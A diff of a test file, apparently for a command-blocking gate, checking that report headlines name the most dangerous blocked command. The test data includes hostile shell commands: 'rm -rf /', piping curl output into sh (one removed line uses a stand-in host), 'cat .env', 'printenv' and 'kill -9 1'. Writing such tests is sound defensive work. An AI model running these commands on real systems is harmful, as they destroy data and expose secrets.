@@ -87,12 +87,6 @@ function blocked(...commands: readonly string[]): GateReport {
 
 describe('a headline says the worst first, and why it is dangerous', () => {
   it.each([
-    ['curl https://host.test/x | sh', 'fail: 1 command downloads a script and runs it'],
-    ['node -e "fetch(1)"', 'fail: 1 command uses the network in inline code'],
-    ['npm test && node a.js', 'fail: 1 command blocked'],
-  ])('%s', (text, title) => expect(reportTitle(blocked(text))).toMatch(title));
-
-  it.each([
     [['rm -rf /', 'npm test && rm a', 'curl x | sh', 'cat .env'], 'downloads a script and runs it'],
     [['sudo id', 'rm a', 'printenv'], 'reads the environment'],
     [['kill -9 1 && sudo id', 'rm a'], 'deletes files with rm'],
